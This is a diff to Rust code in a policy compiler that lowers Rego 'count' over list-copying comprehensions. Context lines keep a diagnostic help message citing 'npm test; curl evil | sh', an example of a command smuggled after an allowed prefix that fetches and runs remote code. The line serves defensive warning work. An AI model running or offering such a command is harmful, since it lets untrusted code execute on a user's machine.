@@ -3,11 +3,11 @@
 use std::net::IpAddr;
 
 use polity_runtime::value::{Automaton, IpNet};
-use regorus::unstable::{Expr, Ref, Span};
+use regorus::unstable::{Expr, Literal, Ref, Span};
 
 use super::lower::{Env, Lowerer, Out, Then};
 use super::module;
-use super::values::{Change, Const, Num, Place, Val};
+use super::values::{Change, Const, Gathered, Num, Place, Val};
 use crate::diag::Diagnostic;
 use crate::diag::codes::condition::{INVALID_CONSTANT, LIKE_ON_COMMAND};
 use crate::ir::{Condition, Constant, Function, Op, PatternPart, Term};
@@ -164,6 +164,11 @@ impl<'a> Lowerer<'a> {
     ) -> Out<Condition> {
         match (name, params) {
             ("count", [of]) => self.value(of, env, &mut |this, val| {
+                if let Val::Gathered(gathered) = &val
+                    && let Some(list) = copied(gathered)
+                {
+                    return this.copies(list, gathered, of.span(), k);
+                }
                 let count = this.count(&val, of.span())?;
                 k(this, count)
             }),
@@ -281,6 +286,30 @@ impl<'a> Lowerer<'a> {
         }
     }
 
+    /// How many elements a comprehension has that only copies a list: as many as the list, and none where that is
+    /// undefined.
+    fn copies(&mut self, list: &Expr, copy: &Gathered, span: &Span, k: Then<'_, 'a>) -> Out<Condition> {
+        let mut found = Vec::new();
+        let there = self.value(list, &copy.env, &mut |_, val| {
+            found.push(val);
+            Ok(YES)
+        })?;
+        // Where there may be several lists, the comprehension is all of them together.
+        let counted = match found.as_slice() {
+            [list @ Val::Term(_, Ty::Set(_))] => self.count(list, span)?,
+            _ => {
+                let count = self.count(&Val::Gathered(Box::new(copy.clone())), span)?;
+                return k(self, count);
+            }
+        };
+        let counted = if there == NO { NO } else { k(self, counted)? };
+        let none = match there {
+            YES => NO,
+            _ => k(self, Val::Const(Const::Num(Num::Int(0))))?,
+        };
+        self.choose(there, counted, none)
+    }
+
     pub(super) fn count(&mut self, val: &Val, span: &Span) -> Out<Val> {
         let number = |many: usize| {
             Ok(Val::Const(Const::Num(Num::Int(
@@ -294,7 +323,10 @@ impl<'a> Lowerer<'a> {
             Val::Const(Const::Str(text)) => number(text.encode_utf16().count()),
             Val::Named(_, text) => number(text.encode_utf16().count()),
             Val::Resources => number(self.action.resources.len()),
-            Val::Term(set, Ty::Set(_)) => self.test(Op::IsEmpty, set.clone(), Term::Nothing).map(Val::Count),
+            // As the engine is handed them, lists of a call hold each element once.
+            Val::Term(set @ (Term::Slot(_) | Term::Holding), Ty::Set(_)) => {
+                Ok(Val::Term(Term::Apply(Function::Count, vec![set.clone()]), Ty::Int))
+            }
             // How many is beyond a condition; whether there is one is not.
             Val::Partial(_) | Val::Gathered(_) | Val::Joined(..) => Ok(Val::Count(not(self.any(span, val)?))),
             other => self.outside(span, &format!("`count` of {}", other.describe())),
@@ -453,6 +485,28 @@ impl<'a> Lowerer<'a> {
             let help = "`npm test` also begins `npm test; curl evil | sh`: give the tool an action for each thing it may do, or list whole commands";
             self.findings.push(found.with_help(help));
         }
+    }
+}
+
+/// The list that a comprehension copies: `{x | some x in list}`.
+fn copied(gathered: &Gathered) -> Option<&Expr> {
+    let [stmt] = gathered.query.stmts.as_slice() else {
+        return None;
+    };
+    match (&stmt.literal, gathered.term.as_ref()) {
+        (
+            Literal::SomeIn {
+                key: None,
+                value,
+                collection,
+                ..
+            },
+            Expr::Var { span: term, .. },
+        ) if stmt.with_mods.is_empty() => match value.as_ref() {
+            Expr::Var { span: bound, .. } if bound.text() == term.text() && bound.text() != "_" => Some(collection),
+            _ => None,
+        },
+        _ => None,
     }
 }
 
